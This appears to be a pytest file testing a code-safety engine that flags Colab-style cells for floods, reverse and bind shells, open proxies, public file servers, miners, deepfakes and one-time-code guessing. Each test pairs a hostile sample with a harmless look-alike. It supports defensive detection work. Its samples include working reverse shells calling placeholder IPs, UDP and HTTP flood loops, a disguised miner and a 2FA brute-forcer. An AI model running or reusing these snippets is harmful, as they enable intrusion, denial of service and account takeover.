    """LABELS.md: code that only downloads or parses public proxy lists is allowed; sending requests through them
    (a checker, a rotation) is not. proxy-list/unused reads that nothing goes through a proxy and keeps the word
    model (which reads 'proxies', 'socks5', 'proxy-list' as a proxy's words) quiet; the same program that then
    fetches a page through each proxy it saved is a checker, and so is one that runs its checker when done."""
    shapes = {f.shape for f in behaviour.find(ast.parse(LIST_KEEPER))}
    assert "proxy-list/unused" in shapes
    assert engine.check_code(LIST_KEEPER, "python").action == "allow"
    checker = LIST_KEEPER.replace(
        "asyncio.run(collect())",
        "async def alive(session, proxy):\n"
        "    async with session.get('https://example.com/', proxy='http://' + proxy) as resp:\n"
        "        return resp.status == 200\n\n\nasyncio.run(collect())")
    assert checker != LIST_KEEPER
    assert "proxy-list/unused" not in {f.shape for f in behaviour.find(ast.parse(checker))}
    hand_on = LIST_KEEPER.replace("asyncio.run(collect())", "asyncio.run(collect())\nos.system('python check_proxies.py')")
    assert hand_on != LIST_KEEPER
    assert "proxy-list/unused" not in {f.shape for f in behaviour.find(ast.parse(hand_on))}


def test_a_table_keyed_like_a_proxies_mapping_does_not_hide_the_other_shapes(engine):
    """A dict keyed 'http'/'socks5' whose values are lists (a table of sources, not a proxies mapping) once made
    the proxy-client check raise, and every shape of the unit was lost with it: here the flood beside it."""
    flood = ("import threading, requests\nSOURCES = {'http': ['a.txt', 'b.txt'], 'socks5': ['c.txt']}\n"
             "def hit():\n    while True:\n        requests.get('http://203.0.113.9/')\n"
             "for _ in range(200):\n    threading.Thread(target=hit).start()\n")
    assert flagged(engine.check_code(flood), "dos_attack")
    paced = flood.replace("        requests.get('http://203.0.113.9/')", "        requests.get('http://203.0.113.9/')\n"
                          "        __import__('time').sleep(60)").replace("range(200)", "range(1)")
    assert paced != flood and engine.check_code(paced).action == "allow"


LOCAL_PREVIEW = """\
# Preview the generated web report (HTML) before publishing it: served to me only, bound to 127.0.0.1,
# and viewed through the notebook's own iframe
import functools
import http.server
import threading
from google.colab import output

handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory="/content/web_report")
server = http.server.ThreadingHTTPServer(("127.0.0.1", 8010), handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
output.serve_kernel_port_as_iframe(8010, path="/index.html", height=650)
# stop serving when done: server.shutdown()
"""


def test_a_preview_served_on_loopback_is_not_hosting_by_its_words(engine):
    """The word model reads 'serve', 'server', 'web' as a web host's words; the server shapes read the server and
    find it on loopback only (server-local/files), which keeps the word model quiet. The same server on every
    interface is a public file server."""
    assert engine.check_code(LOCAL_PREVIEW, "python").action == "allow"
    public = LOCAL_PREVIEW.replace('("127.0.0.1", 8010)', '("0.0.0.0", 8010)')
    assert public != LOCAL_PREVIEW and flagged(engine.check_code(public, "python"), "web_file_hosting")


BROKEN_HANDLER = ("import subprocess\n@bot.message_handler(commands=['go'])\ndef go(message):\n    try:\n"
                  "        ip, port, secs = message.text.split()[1:4]\n"
                  "        proc = subprocess.Popen(['{tool}', ip, port, secs])\n"
                  "        bot.reply_to(message, f\"done:\n{{proc.pid}}\")\n"  # a string broken over two lines
                  "    except Exception as e:\n        print(e)\n")


@pytest.mark.parametrize("tool, bad", [("./udp_flood", True), ("./render_report", False)])
def test_a_block_with_a_broken_line_is_read_without_it(engine, tool, bad):
    verdict = engine.check_code(BROKEN_HANDLER.format(tool=tool))
    assert flagged(verdict, "dos_attack") is bad, verdict.to_dict()
    assert any("syntax error" in n for n in verdict.notes)


def test_the_category_follows_what_is_served_not_the_tunnel(engine):
    cell = ("from pyngrok import ngrok\nfrom flask import Flask, send_file\napp = Flask(__name__)\n"
            "@app.route('/f/<n>')\ndef f(n):\n    return send_file('/content/share/' + n)\n"
            "print(ngrok.connect(5000))\napp.run(port=5000)")
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and verdict.category == "web_file_hosting", verdict.to_dict()


def test_own_model_demos_are_at_most_audited(engine):
    share = "import gradio as gr\ngr.Interface(fn=predict, inputs='image', outputs='label').launch(share=True)"
    verdict = engine.check_code(share)
    assert verdict.action == "allow" and any(f.rule == "web_file_hosting.gradio-share-link" for f in verdict.findings)
    board = "%load_ext tensorboard\n%tensorboard --logdir runs\nfrom pyngrok import ngrok\nprint(ngrok.connect(6006))"
    assert engine.check_code(board).action == "allow"
    bare = "from pyngrok import ngrok\nprint(ngrok.connect(9000))"
    verdict = engine.check_code(bare)  # a web tunnel with nothing named behind it: recorded, like a share link
    assert verdict.action == "allow" and any(f.rule == "proxy_tunnel.ngrok" and f.severity == "audit"
                                             for f in verdict.findings), verdict.to_dict()
    raw = "from pyngrok import ngrok\nprint(ngrok.connect(9000, 'tcp'))"
    assert engine.check_code(raw).action == "warn"  # a raw TCP tunnel carries anything: still a warning


@pytest.mark.parametrize("served, flagged_", [
    ("!nohup ollama serve &\n!ollama pull llama3", False),  # one's own language model
    ("!nohup python -m vllm.entrypoints.openai.api_server --model Qwen/Qwen2-7B-Instruct --port 9000 &", False),
    ("!nohup uvicorn main:app --port 9000 &", False),  # a small API of one's own, from the project's module
    ("!nohup java -Xmx4G -jar server.jar nogui &", True),  # a game server
    ("!nohup python manage.py runserver 9000 &", True),  # a website kept up for visitors
])
def test_a_tunnel_to_a_served_model_or_own_api_is_the_share_link_case(engine, served, flagged_):
    verdict = engine.check_code(served + "\nfrom pyngrok import ngrok\nprint(ngrok.connect(9000))")
    assert (verdict.action != "allow") is flagged_, verdict.to_dict()


def test_runner_arguments_built_in_variables_are_read(engine):
    """A launcher that builds the tool's command line in variables, with parts the folder cannot know."""
    swap = ("src = 'me.png'\nclip = 'talk.mp4'\nkeep = False\nkeep_flag = '--keep-fps' if keep else ''\n"
            "cmd = f'run.py -s {src} -t {clip} -o out.mp4 --frame-processor face_swapper {keep_flag}'\n!python $cmd")
    assert flagged(engine.check_code(swap), "deepfake")
    train = ("cfg = 'yolo.yaml'\nepochs = 3 if fast else 30\ncmd = f'train.py --cfg {cfg} --epochs {epochs}'\n"
             "!python $cmd")
    assert engine.check_code(train).action == "allow"
    grown = ("import subprocess\nargv = ['aria2c', '--seed-time=0', '--dir', '/content/dl']\nargv.append(magnet)\n"
             "subprocess.Popen(argv)")
    assert flagged(engine.check_code(grown), "torrent_p2p")
    fetch = ("import subprocess\nargv = ['aria2c', '-x', '8', '--dir', '/content/data']\n"
             "argv.append('https://example.org/dataset.tar')\nsubprocess.run(argv)")
    assert engine.check_code(fetch).action == "allow"


BUILDER = ("import subprocess\nflags = {'port': 6881, 'quiet': True}\nMOUNTS = {'/content/a': 'a:r'}\n"
           "def build(verb, target):\n"
           "    argv = ['npx', '--yes', TOOL, verb, str(target)]\n    for k, v in flags.items():\n"
           "        if v is True:\n            argv.append(f'--{k}')\n        elif v:\n"
           "            argv += [f'--{k}', str(v)]\n    for src, spec in MOUNTS.items():\n"
           "        where, mode = spec.split(':')\n        argv += ['--mount', f'{src}:{where}:{mode}']\n"
           "    argv.extend(['--out', '/content/out'])\n    return argv\n"
           "for item in sorted(pathlib.Path(SRC).iterdir()):\n    subprocess.Popen(build(VERB, item))")


@pytest.mark.parametrize("tool,verb,flagged_", [("webtorrent-cli", "seed", True), ("prettier", "--check", False)])
def test_an_argv_built_by_a_helper_with_appends_is_read(engine, tool, verb, flagged_):
    """A def that starts an argv from a literal and grows it (appends in a loop left out, the certain ones kept),
    called with an argument nobody can know (a loop's item): its command is read with a placeholder there."""
    cell = BUILDER.replace("TOOL", repr(tool)).replace("VERB", repr(verb)).replace("SRC", "'/content/share'")
    verdict = engine.check_code(cell)
    assert flagged(verdict, "torrent_p2p") if flagged_ else verdict.action == "allow", verdict.to_dict()


def test_an_upload_is_file_hosting_only_when_it_is_kept():
    """A form that reads an upload and answers (an image-analysis API behind a tunnel) keeps nothing for anyone,
    nor does one that saves it where its model reads it; one that keeps uploads and lists them to visitors is a
    file portal (eval/LABELS.md)."""
    import ast

    head = ("import uvicorn, shutil\nfrom fastapi import FastAPI, UploadFile\napp = FastAPI()\n"
            "@app.post('/in')\nasync def take(doc: UploadFile):\n")
    kept = head + "    with open('/srv/pool/' + doc.filename, 'wb') as out:\n        shutil.copyfileobj(doc.file, out)\n"
    listed = "@app.get('/')\nasync def index():\n    return sorted(os.listdir('/srv/pool'))\n"
    read = head + "    data = await doc.read()\n    return {'bytes': len(data)}\n"
    tail = "uvicorn.run(app, port=8000)\n"
    assert "server-local/files" in {f.shape for f in behaviour.find(ast.parse("import os\n" + kept + listed + tail))}
    assert not any(f.shape.endswith("/files") for f in behaviour.find(ast.parse(kept + tail)))
    assert not any(f.shape.endswith("/files") for f in behaviour.find(ast.parse(read + tail)))


DROP_BOX = """\
import os
from flask import Flask, request, render_template_string
inbox = Flask(__name__)
KEEP = os.getenv("KEEP", "/srv/inbox")

def file_all(items, where):
    os.makedirs(where, exist_ok=True)
    for item in items:
        item.save(os.path.join(where, item.filename))

@inbox.route("/", methods=["GET", "POST"])
def page():
    if request.method == "POST":
        file_all(request.files.getlist("f"), KEEP)
        {after}
    return render_template_string(FORM)

inbox.run(host="0.0.0.0", port=4000)
"""


@pytest.mark.parametrize("after, kept", [
    ("return render_template_string(FORM + '<p>received</p>')", True),
    # the look-alike reads what it was sent: a tool that works on the upload, not a place to leave files
    ("import pandas as pd\n        return pd.read_csv(os.path.join(KEEP, request.files['f'].filename)).describe().to_html()",
     False),
])
def test_a_drop_box_keeps_uploads_under_their_names_and_does_nothing_else(engine, after, kept):
    """An upload site on every interface that saves each visitor's files under the names they gave and only says
    so (a drop box, eval/LABELS.md's upload sites) is file hosting; the same form whose upload is read and worked
    on is a tool."""
    verdict = engine.check_code(DROP_BOX.format(after=after), "python")
    assert flagged(verdict, "web_file_hosting") is kept, verdict.to_dict()


@pytest.mark.parametrize("host, flagged_", [("0.0.0.0", True), ("127.0.0.1", False)])
def test_a_server_made_from_a_uvicorn_config_binds_where_the_config_says(engine, host, flagged_):
    """``uvicorn.Server(uvicorn.Config(app, host=...)).run()`` listens where its Config says (loopback unless told):
    a Drive folder mounted as static files on every interface is a file server; on loopback it is one's own."""
    cell = ("import threading\nimport uvicorn as uv\nfrom fastapi import FastAPI\nfrom fastapi.staticfiles import StaticFiles\n"
            "api = FastAPI()\napi.mount('/files', StaticFiles(directory='/content/drive/MyDrive/shared'), name='f')\n"
            f"cfg = {{'bind': {host!r}, 'port': 7860}}\nsrv = uv.Server(uv.Config(api, host=cfg['bind'], port=cfg['port']))\n"
            "threading.Thread(target=srv.run, daemon=True).start()")
    verdict = engine.check_code(cell)
    assert flagged(verdict, "web_file_hosting") is flagged_, verdict.to_dict()


HELPER_SENDER = """\
import socket, os
ROOT = "/content/pub"

def reply(conn, code, body):
    conn.sendall(f"HTTP/1.1 {{code}} OK\\r\\nContent-Length: {{len(body)}}\\r\\n\\r\\n".encode() + body)

def serve(conn):
    first = conn.recv(4096).decode(errors="ignore").split(" ")
    path = {path}
    with open(path, "rb") as f:
        reply(conn, 200, f.read())
    conn.close()

s = socket.socket()
s.bind(("0.0.0.0", 8899))
s.listen(16)
while True:
    c, _ = s.accept()
    serve(c)
"""


@pytest.mark.parametrize("path, files", [
    ("os.path.join(ROOT, first[1].lstrip('/'))", True),
    # the look-alike answers every client with its one status page
    ("os.path.join(ROOT, 'status.html')", False),
])
def test_a_file_the_client_chose_sent_through_a_helper_is_file_serving(path, files):
    """A hand-written server whose handler reads the file its client named and hands the bytes to a helper that
    sends what it is given (``reply(c, 200, f.read())``) serves files, as if it sent them itself; one that sends
    every client the same page chooses nothing for them."""
    shapes = {f.shape for f in behaviour.find(ast.parse(HELPER_SENDER.format(path=path)))}
    assert ("server/files" in shapes) is files, shapes


STREAM_SERVER = """\
import asyncio
from pathlib import Path
ROOT = Path("/content/drive/MyDrive/pub")

async def serve(reader, writer):
    line = (await reader.readline()).decode(errors="ignore").split()
    match line:
        case ["GET", target, *_]:
            body = {read}
        case _:
            body = b""
    writer.write(b"HTTP/1.1 200 OK\\r\\n\\r\\n" + body)
    await writer.drain()
    writer.close()

asyncio.get_event_loop().create_task(asyncio.start_server(serve, "0.0.0.0", 8088))
"""


@pytest.mark.parametrize("read, files", [
    ("(ROOT / target.lstrip('/')).read_bytes()", True),
    # the look-alike answers every client with one status page, whatever it asked for
    ("(ROOT / 'status.html').read_bytes()", False),
])
def test_an_asyncio_server_reading_the_path_its_client_matched_serves_files(read, files):
    """``match line: case ["GET", target, *_]`` binds the path the client asked for, and ``Path.read_bytes()`` of a
    path made from it is a file handed out (like ``open(path).read()``); a constant page chooses nothing."""
    shapes = {f.shape for f in behaviour.find(ast.parse(STREAM_SERVER.format(read=read)))}
    assert ("server/files" in shapes) is files, shapes


READER_HELPER = """\
import os, socket
ROOT = "/content/drive/MyDrive/shared"

def body(path):
    with open(path, "rb") as f:
        yield from iter(lambda: f.read(65536), b"")

def serve(conn):
    req = conn.recv(8192).decode(errors="ignore").split(" ")
    path = {path}
    conn.sendall(b"HTTP/1.1 200 OK\\r\\n\\r\\n")
    for chunk in body(path):
        conn.sendall(chunk)

s = socket.socket()
s.bind(("0.0.0.0", 8080))
s.listen(8)
while True:
    serve(s.accept()[0])
"""


@pytest.mark.parametrize("path, files", [
    ("os.path.join(ROOT, req[1].lstrip('/'))", True),
    ("os.path.join(ROOT, 'index.html')", False),  # the look-alike's one page, whatever the client asked for
])
def test_a_file_read_by_a_helper_generator_and_sent_by_the_handler_is_file_serving(path, files):
    """A handler that hands the path its client chose to a helper of the unit's that opens it and yields its bytes
    (``for chunk in body(path): conn.sendall(chunk)``) serves files; one that always reads its own page does not."""
    shapes = {f.shape for f in behaviour.find(ast.parse(READER_HELPER.format(path=path)))}
    assert ("server/files" in shapes) is files, shapes


def _notebook(cells: list[str]) -> dict:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {},
            "cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": [], "execution_count": None}
                      for c in cells]}


CROSS_CELL = [
    ("flood: worker in one cell, threads in the next", "dos_attack",
     ["import requests, threading\ntarget = 'https://shop.example.com/'\ndef attack():\n    requests.get(target)",
      "for i in range(1000):\n    threading.Thread(target=attack).start()"],
     ["import requests, threading\ndef download(u):\n    open(u.rsplit('/', 1)[-1], 'wb').write(requests.get(u).content)",
      "threads = [threading.Thread(target=download, args=(u,)) for u in files]\nfor t in threads:\n    t.start()"]),
    ("message storm: the keyboard module imported in one cell, the typing loop in the next", "dos_attack",
     ["import pyautogui\nimport webbrowser\nwebbrowser.open('https://web.whatsapp.com/send?phone=15550100')",
      "for i in range(100):\n    pyautogui.typewrite('hello there')\n    pyautogui.press('enter')"],
     ["import pyautogui\nimport webbrowser\nwebbrowser.open('https://docs.example.org/form')",
      "for row in open('answers.txt'):\n    pyautogui.typewrite(row.strip())\n    pyautogui.press('enter')"]),
    ("relay: handler in one cell, listener in the next", "proxy_tunnel",
     ["import socket, threading\ndef pipe(a, b):\n    while True:\n        d = a.recv(4096)\n        if not d:\n            break\n"
      "        b.sendall(d)\ndef handle(c):\n    first = c.recv(4096)\n    host, port = first.split()[1].decode().split(':')\n"
      "    up = socket.create_connection((host, int(port)))\n    c.sendall(b'HTTP/1.1 200 Connection Established\\r\\n\\r\\n')\n"
      "    threading.Thread(target=pipe, args=(c, up)).start()\n    pipe(up, c)",
      "srv = socket.socket()\nsrv.bind(('0.0.0.0', 8888))\nsrv.listen(50)\nwhile True:\n    c, _ = srv.accept()\n"
      "    threading.Thread(target=handle, args=(c,)).start()"],
     ["import socket, threading\ndef handle(c):\n    c.sendall(b'hello ' + c.recv(64))\n    c.close()",
      "srv = socket.socket()\nsrv.bind(('127.0.0.1', 8888))\nsrv.listen(5)\nwhile True:\n    c, _ = srv.accept()\n"
      "    threading.Thread(target=handle, args=(c,)).start()"]),
]


@pytest.mark.parametrize("name,category,bad,good", CROSS_CELL, ids=[c[0] for c in CROSS_CELL])
def test_a_shape_split_over_cells_is_read_as_one_program(engine, name, category, bad, good):
    assert all(engine.check_code(cell).action == "allow" for cell in bad)  # each half alone is nothing
    verdict = engine.check_notebook(_notebook(bad))
    assert flagged(verdict, category), verdict.to_dict()
    finding = next(f for f in verdict.findings if f.pattern == "behaviour")
    assert "read as one program" in finding.evidence and finding.cell is not None
    memory = Memory()
    assert flagged([engine.check_code(cell, memory=memory) for cell in bad][-1], category)  # the gate, cell by cell
    assert engine.check_notebook(_notebook(good)).action == "allow"
    memory = Memory()
    assert [engine.check_code(cell, memory=memory) for cell in good][-1].action == "allow"


@pytest.mark.parametrize("argv,shape", [
    (["python", "run.py", "-s", "face.jpg", "-t", "clip.mp4", "-o", "out.mp4"], "args/face-onto-video"),
    (["python3", "inference.py", "--src_path", "me.wav", "--trg_path", "speaker_b.wav"], "args/voice-onto-voice"),
    (["python", "convert.py", "--source=lecture.wav", "--reference=them.flac"], "args/voice-onto-voice"),
    (["python", "svc_convert.py", "-m", "logs/44k/G_12000.pth", "-i", "lecture.wav", "-o", "sung.wav"],
     "args/voice-onto-voice"),
    (["$R-cli", "-w", "/content/dl", "magnet:?xt=urn:btih:" + "ab" * 20], "args/magnet-to-client"),
    (["python3", "fetch.py", "--out", "/content", "'magnet:?xt=urn:btih:" + "ab" * 20 + "&dn=x'"], "args/magnet-to-client"),
])
def test_argument_shapes_of_a_command(argv, shape):
    assert shape in behaviour.command_shapes(argv)


@pytest.mark.parametrize("argv", [
    ["python", "style.py", "-s", "face.jpg", "-t", "painting.jpg"],  # two images: style transfer
    ["python", "track.py", "--source", "a.mp4", "--target", "b.mp4"],  # two videos: tracking
    ["python", "eval_pesq.py", "--ref", "clean.wav", "--deg", "noisy.wav"],  # a metric: no source
    ["python", "vc.py", "--source", "a.wav", "--target", "a.wav"],  # one recording onto itself
    ["python", "separate.py", "-s", "mix.wav", "-o", "stems/"],  # one recording in, stems out
    ["python", "tts.py", "-m", "logs/G_12000.pth", "--text", "good morning"],  # speech from text, no recording
    ["ffmpeg", "-i", "me.wav", "-t", "10", "them.wav"],  # not a Python script
    ["echo", "magnet:?xt=urn:btih:" + "ab" * 20],  # a link printed
    ["python", "parse_magnet.py", "magnet:?xt=urn:btih:" + "ab" * 20],  # a link parsed
    ["grep", "-c", "magnet:?xt=urn:btih:", "links.txt"],  # a link searched for
])
def test_argument_shapes_leave_look_alikes_alone(argv):
    assert behaviour.command_shapes(argv) == []



# (what the shape reads, the rule whose shape it is, the positive, the look-alike that stays allowed)
UPLOAD_IDIOM = """import os
from http.server import HTTPServer, BaseHTTPRequestHandler
class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        size = int(self.headers['Content-Length'])
        with open(os.path.join('uploads', self.path.strip('/')), 'wb') as out:
            out.write(self.rfile.read(size))
        self.send_response(201)
        self.end_headers()
def run(server_class=HTTPServer, handler_class=Handler, port=8040):
    httpd = server_class(('{host}', port), handler_class)
    httpd.serve_forever()
run()
"""

SHAPE_RULE_PAIRS = [
    ("a loop over the cell's endless generator of packets is one target; a generator of hosts from a file gives "
     "one probe per host", "dos_attack.flood-shape",
     "import socket, threading, random, os\nHOST = '203.0.113.45'\ndef packets():\n"
     "    junk = [os.urandom(1200) for _ in range(8)]\n    while True:\n"
     "        yield random.choice(junk), (HOST, random.choice((53, 123, 443)))\n"
     "def worker():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "    for i, (data, dst) in enumerate(packets()):\n        s.sendto(data, dst)\n"
     "for n in range(96):\n    threading.Thread(target=worker, daemon=True).start()",
     "import socket, threading\ndef probes():\n    for line in open('my_servers.txt'):\n"
     "        yield b'status', (line.strip(), 9999)\n"
     "def worker():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "    for data, dst in probes():\n        s.sendto(data, dst)\n"
     "for n in range(8):\n    threading.Thread(target=worker, daemon=True).start()"),
    ("a sweep of random ports started again without end floods one host; a generator of each port once is a scan",
     "dos_attack.flood-shape",
     "import socket, random, os\nHOST = '203.0.113.45'\ndef ports():\n    while True:\n"
     "        yield random.randint(1, 65535)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "junk = os.urandom(1400)\nfor p in ports():\n    s.sendto(junk, (HOST, p))",
     "import socket\nHOST = '10.0.0.5'\ndef ports():\n    for p in range(1, 1025):\n        yield p\n"
     "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in ports():\n    s.sendto(b'ping', (HOST, p))"),
    ("descriptors duplicated through partial(os.dup2, fd) with fd = s.fileno() wire a shell to the connection; "
     "the same done to a log file starts no remote shell", "remote_desktop_ssh.reverse-shell",
     "import socket, os, pty\nfrom functools import partial\ns = socket.socket()\n"
     "s.connect(('203.0.113.70', 4444))\nfd = s.fileno()\nlist(map(partial(os.dup2, fd), (0, 1, 2)))\n"
     "pty.spawn('/bin/bash')",
     "import os, pty\nfrom functools import partial\nlog = open('session.log', 'w')\nfd = log.fileno()\n"
     "list(map(partial(os.dup2, fd), (1, 2)))\npty.spawn('/bin/bash')"),
    ("a reverse shell written against the C library through ctypes (socket, connect, dup2, execve); the same "
     "calls wiring a log file opened through libc are not", "remote_desktop_ssh.reverse-shell",
     "import ctypes, struct\nlibc = ctypes.CDLL(None)\nfd = libc.socket(2, 1, 0)\n"
     "sa = struct.pack('<H', 2) + struct.pack('>H', 443) + bytes([203, 0, 113, 77]) + bytes(8)\n"
     "libc.connect(fd, sa, len(sa))\nfor n in (0, 1, 2):\n    libc.dup2(fd, n)\n"
     "libc.execve(b'/bin/bash', (ctypes.c_char_p * 3)(b'/bin/bash', b'-i', None), None)",
     "import ctypes\nlibc = ctypes.CDLL(None)\nfd = libc.open(b'run.log', 0o1101, 0o644)\n"
     "for n in (1, 2):\n    libc.dup2(fd, n)\n"
     "libc.execve(b'/bin/bash', (ctypes.c_char_p * 3)(b'/bin/bash', b'train.sh', None), None)"),
    ("a shell's path spelled with os.sep and os.path.join is still a shell; the same wiring to a log file is "
     "not a remote shell", "remote_desktop_ssh.reverse-shell",
     "import socket, os, pty, functools\ns = socket.socket()\ns.connect(('203.0.113.71', 443))\n"
     "list(map(functools.partial(os.dup2, s.fileno()), range(3)))\npty.spawn(os.path.join(os.sep, 'bin', 'bash'))",
     "import os, pty, functools\nlog = open('session.log', 'w')\n"
     "list(map(functools.partial(os.dup2, log.fileno()), (1, 2)))\npty.spawn(os.path.join(os.sep, 'bin', 'bash'))"),
    ("a shell given an accepted connection's descriptor as stdin and stdout is a bind shell; a shell whose output "
     "goes to a socket only after it ran is not", "remote_desktop_ssh.reverse-shell",
     "import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 5555))\nsrv.listen(1)\n"
     "conn, _ = srv.accept()\nfd = conn.fileno()\nsubprocess.run(['bash'], stdin=fd, stdout=fd, stderr=fd)",
     "import socket, subprocess\ns = socket.create_connection(('127.0.0.1', 8080))\n"
     "out = subprocess.run(['bash', '-c', 'nvidia-smi'], capture_output=True)\ns.sendall(out.stdout)"),
    ("a program of several lines handed to python -c in an argv list is read as Python (here a reverse shell); "
     "the same launcher running a report is allowed", "remote_desktop_ssh.reverse-shell",
     "import subprocess, sys\ncode = \"\"\"\nimport socket, os, pty\ns = socket.socket()\n"
     "s.connect(('203.0.113.66', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
     "pty.spawn('/bin/bash')\n\"\"\"\nsubprocess.Popen([sys.executable, '-c', code], start_new_session=True)",
     "import subprocess, sys\ncode = \"\"\"\nimport json, os\nrows = os.listdir('/content/runs')\n"
     "print(json.dumps(sorted(rows)))\n\"\"\"\nsubprocess.Popen([sys.executable, '-c', code])"),
    ("the http.server docs' own idiom, the server class handed in as a parameter's default, bound to every "
     "interface and taking uploads; the same bound to 127.0.0.1 is allowed", "web_file_hosting.public-file-server",
     UPLOAD_IDIOM.format(host=""), UPLOAD_IDIOM.format(host="127.0.0.1")),
    *HIDING_PAIRS,
]


@pytest.mark.parametrize("name,rule,bad,good", SHAPE_RULE_PAIRS, ids=[p[0][:60] for p in SHAPE_RULE_PAIRS])
def test_the_shape_names_its_rule_and_the_look_alike_is_allowed(engine, name, rule, bad, good):
    """Asserts the shape's own rule, not only a flag (which the word model or a text rule could give)."""
    verdict = engine.check_code(bad)
    assert rule in {f.rule for f in verdict.findings}, (name, verdict.to_dict())
    assert engine.check_code(good).action == "allow", name


# a tool fetched or copied under a new name, then run by that name (in the same cell or a later one)
RENAMED = [
    ("rclone copied under a Python-built name", "web_file_hosting",
     ["import shutil, subprocess\ngw = '/usr/local/bin/' + 'gatewayd'\nshutil.copy(shutil.which('rclone'), gw)\n"
      "subprocess.Popen([gw, 'serve', 'http', '/content/drive/MyDrive', '--addr', '0.0.0.0:8080'])"],
     ["import shutil, subprocess\ngw = '/usr/local/bin/' + 'gatewayd'\nshutil.copy(shutil.which('rclone'), gw)\n"
      "subprocess.run([gw, 'copy', '/content/drive/MyDrive/data', 'remote:backup'])"]),
    ("a downloaded tunnel client saved as cfd, run in the next cell", "remote_desktop_ssh",
     ["!wget -q https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64 -O /usr/bin/cfd"
      " && chmod +x /usr/bin/cfd\n!apt-get install -y -qq openssh-server && service ssh start",
      "!cfd access tcp --hostname ssh.example.org --url localhost:22 &\n!cfd tunnel --url ssh://localhost:22"],
     ["!wget -q https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64 -O /usr/bin/cfd"
      " && chmod +x /usr/bin/cfd",
      "!cfd --version"]),
    ("a load tool's release saved as b, aimed at another host", "dos_attack",
     ["!wget -q https://github.com/codesenberg/bombardier/releases/download/v1.2.6/bombardier-linux-amd64 -O b"
      " && chmod +x b",
      "!./b -c 2000 -d 3600s -l https://victim.example/"],
     ["!wget -q https://github.com/codesenberg/bombardier/releases/download/v1.2.6/bombardier-linux-amd64 -O b"
      " && chmod +x b",
      "!./b -c 20 -d 10s http://127.0.0.1:8000/predict"]),
    ("a miner moved under a kernel thread's name", "crypto_mining",
     ["!mv /opt/tools/xmrig /usr/local/bin/kthreadd-sync",
      "!kthreadd-sync -o pool.example.net:3333 -u $WALLET --donate-level 1"],
     ["!mv /opt/tools/train.py /content/run.py",
      "!python /content/run.py --epochs 3"]),
]


@pytest.mark.parametrize("name,category,bad,good", RENAMED, ids=[c[0] for c in RENAMED])
def test_a_program_run_under_a_new_name_is_read_as_itself(engine, name, category, bad, good):
    verdict = engine.check_notebook(_notebook(bad))
    assert flagged(verdict, category), verdict.to_dict()
    assert any(" is " in f.evidence for f in verdict.findings), verdict.to_dict()  # the evidence names the rename
    memory = Memory()
    assert flagged([engine.check_code(cell, memory=memory) for cell in bad][-1], category)  # the gate, cell by cell
    assert engine.check_notebook(_notebook(good)).action == "allow"


def test_the_suite_runs_the_shapes_strictly(monkeypatch):
    """A shape family that raises is skipped in production (an odd tree loses that family's shapes); under the
    suite it raises, so a bug such as reading a comprehension's body cannot hide behind the forgiveness."""
    def tripping(unit):
        return unit.tree.body[0].body  # an expression statement has no body: AttributeError

    monkeypatch.setattr(behaviour, "_FAMILIES", (tripping,))
    tree = ast.parse("print(1)")
    assert behaviour.STRICT
    with pytest.raises(AttributeError):
        behaviour.find(tree)
    monkeypatch.setattr(behaviour, "STRICT", False)
    assert behaviour.find(tree) == []  # production: that family's shapes are lost, the check goes on


PUMP = """\
import socket, threading
LISTEN = ("0.0.0.0", 8388)
UPSTREAM = ({upstream!r}, 443)

def pump(a, b):
    while (data := a.recv(65536)):
        b.sendall(data)

server = socket.socket()
server.bind(LISTEN)
server.listen(64)
while True:
    client, _ = server.accept()
    out = socket.create_connection(UPSTREAM)
    threading.Thread(target=pump, args=(client, out), daemon=True).start()
    threading.Thread(target=pump, args=(out, client), daemon=True).start()
"""


@pytest.mark.parametrize("upstream, forwards", [("203.0.113.7", True), ("127.0.0.1", False)])
def test_a_forward_to_an_address_kept_under_a_name_is_a_port_forward(engine, upstream, forwards):
    """Every connection taken on all interfaces piped to one address kept whole under a name (``UPSTREAM =
    (host, port)``): a port forward to another machine.  Forwarding to this machine's own service is not."""
    verdict = engine.check_code(PUMP.format(upstream=upstream), "python")
    assert any(f.rule == "proxy_tunnel.port-forward-server" for f in verdict.findings) is forwards, verdict.to_dict()



@pytest.mark.parametrize("listen, forwards", [("0.0.0.0", True), ("127.0.0.1", False)])
def test_a_listen_address_looked_up_in_a_table_is_read(engine, listen, forwards):
    """``bind(route["listen"])``: the address the server listens on is the pair the table spells out."""
    cell = PUMP.format(upstream="203.0.113.7").replace(
        'LISTEN = ("0.0.0.0", 8388)', f'route = {{"listen": ({listen!r}, 8388), "mode": "tcp"}}').replace(
        "server.bind(LISTEN)", 'server.bind(route["listen"])')
    assert 'route["listen"]' in cell
    verdict = engine.check_code(cell, "python")
    assert any(f.rule == "proxy_tunnel.port-forward-server" for f in verdict.findings) is forwards, verdict.to_dict()

OTP_GUESSER = """\
import requests
from concurrent.futures import ThreadPoolExecutor

VERIFY = "https://bank.example/api/verify-2fa"

def attempt(n):
    s = requests.Session()
    s.post("https://bank.example/api/login", json={{"account": "alice", "pin": "hunter2"}})
    code = {code}
    r = s.post(VERIFY, json={{"otp": code}})
    return code if "invalid" not in r.text.lower() else None

with ThreadPoolExecutor(max_workers=20) as pool:
    for hit in pool.map(attempt, {items}):
        if hit:
            print("found", hit)
            break
"""


@pytest.mark.parametrize("code, items, guesses", [
    ('f"{n:06d}"', "range(1_000_000)", True),
    ("str(n).zfill(4)", "range(10_000)", True),
    # the look-alike: each account's own code from its authenticator secret, as a test suite logs in
    ("pyotp.TOTP(n).now()", "secrets_of_test_accounts", False),
])
def test_one_time_codes_counted_through_are_guessed(engine, code, items, guesses):
    """A login form's one-time code (OTP, PIN, 2FA) written as a number at a fixed width and counted through a
